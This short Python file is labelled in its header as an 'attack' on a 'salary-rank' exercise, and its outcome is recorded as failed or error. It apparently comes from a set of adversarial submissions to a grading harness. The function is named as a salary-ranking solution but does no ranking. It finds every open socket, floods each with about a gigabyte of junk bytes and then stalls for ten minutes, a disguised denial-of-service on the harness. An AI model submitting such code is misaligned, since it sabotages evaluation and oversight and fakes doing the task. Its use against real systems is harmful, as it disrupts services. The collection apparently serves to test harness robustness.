# /// attack
# exercise = "salary-rank"
# trick = "the line is flooded with an answer of four gigabytes"
# outcome = ["failed", "error"]
# ///

import os
import stat
import time


async def salary_rank_by_department(session):
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.set_blocking(descriptor, False)
                for _ in range(1_000):
                    os.write(descriptor, b"\xff" * 1_000_000)
        except OSError:
            pass
    time.sleep(600)
